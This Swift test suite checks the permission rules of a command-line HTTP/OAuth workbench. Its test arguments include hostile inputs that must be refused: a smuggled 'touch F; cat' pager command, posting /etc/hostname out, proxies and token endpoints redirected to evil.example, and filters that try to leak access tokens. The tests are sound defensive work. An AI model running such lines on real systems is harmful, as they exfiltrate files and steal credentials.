import BenchSupport
import Diagnostics
import Foundation
import HTTPMessage
import JSONKit
import Script
import Session
import Testing

@testable import Commands
@testable import Workbench

/// What the texts of files, plugins and hooks may do: each command of the table from each origin, and the cases in which a
/// command that is allowed does something that is not.
@Suite struct PermissionTests {
    private static let origins: [Origin] = [
        .prompt, .debugger, .commandLine, .standardInput, .recipe(path: "prompt"), .included(path: "-c"), .plugin("p"),
        .hook(plugin: "p"),
    ]
    private static let fromFiles: Set<Origin.Kind> = [.standardInput, .recipe, .included]
    private static let everything = Set(Permission.all.map(\.permission))

    private func call(_ command: Command, _ origin: Origin, callers: [Origin] = []) -> CommandContext {
        let invocation = Invocation(
            name: command.name, source: ScriptSource(origin, text: command.name), callers: callers)
        return CommandContext(invocation, command, RunScope())
    }

    private func isRefused(_ call: CommandContext, allowed: Set<Permission> = []) -> String? {
        do throws(Diagnostic) {
            try Permissions(allowed: allowed).check(call)
            return nil
        } catch {
            return error.code
        }
    }

    @Test func everyOriginIsTried() {
        #expect(Set(Self.origins.map(\.kind)) == Set(Origin.Kind.allCases))
    }

    @Test(
        "Each command runs for the origins that it lists, and for no other", arguments: CommandTable.standard.commands)
    func allowList(command: Command) {
        for origin in Self.origins {
            let isGranted = command.traits.needs.map { Permissions(allowed: []).isAllowed($0, to: origin) } ?? false
            let isListed = command.traits.runBy.contains(origin.kind) || isGranted && !origin.isTyped
            #expect((isRefused(call(command, origin)) == nil) == isListed, "\(command.name) \(origin)")
            let mayBeAllowed = command.traits.needs != nil && Self.fromFiles.contains(origin.kind)
            let isRun = isRefused(call(command, origin), allowed: Self.everything) == nil
            #expect(isRun == (isListed || mayBeAllowed), "\(command.name) \(origin) with everything allowed")
            // What a recipe calls at the prompt, or what is defined at the prompt and called in a recipe, gains nothing.
            for caller in Self.origins where isRefused(call(command, caller)) != nil {
                #expect(
                    isRefused(call(command, origin, callers: [caller])) != nil, "\(command.name) \(origin) \(caller)")
            }
        }
    }

    @Test("What is the user's alone is listed for no file, plugin or hook", arguments: CommandTable.standard.commands)
    func invariants(command: Command) {
        let traits = command.traits
        #expect(traits.runBy.isSuperset(of: [.prompt, .debugger, .commandLine]), "\(command.name)")
        let isOfUser: Set<CommandEffect> = [
            .changesPreferences, .runsPrograms, .managesPlugins, .managesSessions,
        ]
        if isOfUser.contains(traits.effect) {
            #expect(traits.runBy.isSubset(of: [.prompt, .debugger, .commandLine]), "\(command.name)")
            #expect(traits.needs != nil, "\(command.name) can be allowed for a run")
        }
        if traits.effect == .sends {
            #expect(traits.failure != .notJudged || traits.comparesSecrets, "why judges what \(command.name) sends")
            if case .runs = traits.dry { Issue.record("\(command.name) would send in a dry run") }
        }
        if traits.effect == .looks, case .kept = traits.recipe {
            #expect(traits.shown == .expectation, "\(command.name) only looks, and would be kept in a recipe")
        }
        let isForHooks = traits.runBy.contains(.hook)
        #expect(
            !isForHooks || [.looks, .sends, .changesSession, .steersRun].contains(traits.effect), "\(command.name)")
    }

    @Test("Each option that is guarded is refused to each text that is not typed")
    func options() {
        for command in CommandTable.standard.commands {
            for option in command.shape.options where option.needs != nil {
                for origin in Self.origins where command.traits.runBy.contains(origin.kind) {
                    var invocation = call(command, origin).invocation
                    invocation = invocation.with(
                        options: [Invocation.Option(name: option.name, value: "x", range: 0..<1)], items: [])
                    let context = CommandContext(invocation, command, RunScope())
                    #expect((isRefused(context) == nil) == origin.isTyped, "\(command.name) --\(option.name) \(origin)")
                }
            }
        }
        let guarded = Set(
            CommandTable.standard.commands.flatMap(\.shape.options).filter { $0.needs != nil }.map(\.name))
        #expect(guarded == ["reveal", "proxy", "insecure", "cacert", "cert", "key"])
    }

    @Test("A text on standard input works on sessions and providers; it runs no program and shows no secret")
    func standardInput() {
        let granted = Self.everything.filter { Permissions(allowed: []).isAllowed($0, to: .standardInput) }
        #expect(granted == [.sessions, .endpoints])
        for origin in Self.origins where !origin.isTyped && origin != .standardInput {
            #expect(!Self.everything.contains { Permissions(allowed: []).isAllowed($0, to: origin) }, "\(origin)")
        }
    }

    // MARK: What it comes to

    private func recipe(_ bench: Bench, _ text: String, path: String = "prompt") async -> [Diagnostic] {
        await bench.workbench.run(ScriptSource(.recipe(path: path), text: text))
    }

    @Test func aFileCalledPromptRunsNoProgram() async throws {
        let bench = await Bench(change: { $0.shell = { _, _ in Issue.record("a program was run") } })
        #expect(await recipe(bench, "session list | touch PWNED").map(\.code) == ["pipe-misplaced"])
        let failures = await bench.run("define evil\n  session list | touch PWNED\nend")
        #expect(failures == [])
        // The user's own command stays the user's, but not where a file calls it.
        #expect(await recipe(bench, "evil").map(\.code) == ["not-allowed"])
    }

    @Test(
        "A recipe does not change what the user prefers",
        arguments: ["config pager \"touch F; cat\"", "alias ls = 'x'"])
    func preferences(line: String) async throws {
        let bench = await Bench()
        let failures = await recipe(bench, line)
        #expect(failures.map(\.code) == ["not-allowed"])
        #expect(failures.first?.message.contains("the recipe prompt") == true)
        #expect(failures.first?.advice.contains { $0.contains("--allow preferences") } == true)
        #expect(!FileManager.default.fileExists(atPath: bench.folder + "/config"))
        let allowed = await Bench(change: { $0.allowed = [.preferences] })
        #expect(await recipe(allowed, line) == [])
    }

    @Test(
        "A hook does none of these",
        arguments: [
            "config pager x", "alias x = 'y'", "session export F", "get /x > F", "get /x >> F",
            "plugin list", "import curl 'curl -x http://evil.example http://x.example'", "post /x f=@/etc/hostname",
            "post /x --body @/etc/hostname", "token show --reveal", "provider set token_endpoint=http://evil.example",
            "provider add test base_url=http://evil.example", "history clear", "authorize", "session delete x",
            "get /x --proxy http://evil.example", "why --prove",
        ])
    func hooks(line: String) async throws {
        let ok = HTTPResponse.json(["a": 1])
        let bench = await Bench([ok, ok, ok])
        try await bench.added("plugin p 1.0.0\non request\n  \(line)\nend\n")
        let codes = await bench.run("get /y")
        #expect(codes == ["plugin-line"], "\(line)")
        #expect(bench.transport.requests.allSatisfy { !$0.url.contains("evil") })
    }

    /// A value that a hook may not see stays hidden from it however it is asked for.
    @Test(
        "A hook sees no secret through a query, a filter or a part",
        arguments: [
            "save x = token access | base64", "save x = token access", "set x = {{token.access | upper}}",
            "save x = {{client.secret}} | slice 0 4",
        ])
    func queriesOfHooks(line: String) async throws {
        let bench = await Bench([.tokens, .json([:])])
        try await bench.added("plugin p 1.0.0\non request\n  \(line)\nend\n")
        await bench.run("authorize\nexchange\nget /y")
        let seen = try await bench.workbench.store().variable("x")?.value.plainText ?? ""
        for secret in ["access-token-1", "ACCESS-TOKEN-1", "s3cr", Data("access-token-1".utf8).base64EncodedString()] {
            #expect(!seen.contains(secret), "\(line): \(seen)")
        }
    }

    @Test func aRecipeWritesBesideItselfOnly() async throws {
        let bench = await Bench([.json([:]), .json([:]), .json([:]), .json([:])])
        let folder = Bench.newFolder()
        try FileManager.default.createDirectory(atPath: folder + "/sub", withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: folder + "/out", withDestinationPath: "/tmp")
        await bench.run(Bench.ready)
        let path = folder + "/a.keyway"
        for file in ["/tmp/keyway-out", "\(folder)/../x", "\(folder)/.hidden", "\(folder)/out/x", "\(folder)/.git/x"] {
            #expect(await recipe(bench, "get /x > \(file)", path: path).map(\.code) == ["not-allowed"], "\(file)")
        }
        for file in ["\(folder)/x.json", "\(folder)/sub/x.json"] {
            #expect(await recipe(bench, "get /x > \(file)", path: path).map(\.code) != ["not-allowed"], "\(file)")
        }
    }

    @Test(
        "A recipe does not move the endpoints of a provider that is in use",
        arguments: [
            "provider set token_endpoint=http://evil.example", "provider set issuer=http://evil.example",
            "provider set base_url=http://evil.example", "provider add test base_url=http://evil.example",
            "provider remove test\nprovider add test base_url=http://evil.example",
            "provider add google base_url=http://evil.example",
        ])
    func endpoints(text: String) async throws {
        let bench = await Bench()
        await bench.run(Bench.ready)
        #expect(await recipe(bench, text).map(\.code) == ["not-allowed"])
        #expect(await recipe(bench, "provider add mine base_url=https://mine.example") == [])
    }

    @Test("A recipe that may manage plugins writes the beginnings of one only where it may write files")
    func beginningsOfAPlugin() async throws {
        let folder = Bench.newFolder()
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        let bench = await Bench(change: { $0.allowed = [.plugins] })
        let failures = await recipe(bench, "plugin new keyway-never-written", path: folder + "/a.keyway")
        #expect(failures.map(\.code) == ["not-allowed"])
        #expect(failures.first?.advice.contains { $0.contains("--allow files") } == true)
        #expect(!FileManager.default.fileExists(atPath: "keyway-never-written.keyway"))
    }

    @Test("What a recipe writes lies beside it, wherever it is run")
    func relativeNames() async throws {
        let folder = Bench.newFolder()
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        let bench = await Bench([.json(["a": 1])])
        #expect(await bench.run(Bench.ready) == [])
        #expect(await recipe(bench, "get /x > x.json\nvars >> sub.txt", path: folder + "/a.keyway") == [])
        #expect(FileManager.default.fileExists(atPath: folder + "/x.json"))
        #expect(FileManager.default.fileExists(atPath: folder + "/sub.txt"))
        for name in ["../x.json", ".x.json"] {
            #expect(await recipe(bench, "vars > \(name)", path: folder + "/a.keyway").map(\.code) == ["not-allowed"])
        }
    }

    @Test("A recipe does not remove a provider that it has not added itself in the same run")
    func removal() async throws {
        let bench = await Bench()
        await bench.run(Bench.ready)
        let refused = await recipe(bench, "provider remove test")
        #expect(refused.map(\.code) == ["not-allowed"])
        #expect(refused.first?.advice.contains { $0.contains("--allow endpoints") } == true)
        #expect(await bench.run("expect {{provider.base_url}} == \(Bench.base)") == [])
        #expect(await recipe(bench, "provider add mine base_url=https://mine.example\nprovider remove mine") == [])
        // Between two runs the user may have added something to it.
        #expect(await recipe(bench, "provider add mine base_url=https://mine.example") == [])
        #expect(await recipe(bench, "provider remove mine").map(\.code) == ["not-allowed"])
        #expect(await bench.run("provider remove mine") == [])
    }

    @Test("A recipe does not remove what another file has added in the same run")
    func removalOfAnother() async throws {
        let folder = Bench.newFolder()
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        for (name, text) in [
            ("a", "provider add mine base_url=https://mine.example"), ("b", "provider remove mine"),
            ("c", "include a.keyway\nprovider remove mine"),
        ] { try Data(text.utf8).write(to: URL(fileURLWithPath: "\(folder)/\(name).keyway")) }
        let bench = await Bench()
        #expect(await bench.run("include \(folder)/a.keyway\ninclude \(folder)/b.keyway") == ["not-allowed"])
        let other = await Bench()
        #expect(await other.run("include \(folder)/c.keyway") == [])
        let allowed = await Bench(change: { $0.allowed = [.endpoints] })
        #expect(await allowed.run(Bench.ready) == [])
        #expect(await recipe(allowed, "provider remove test") == [])
    }
}
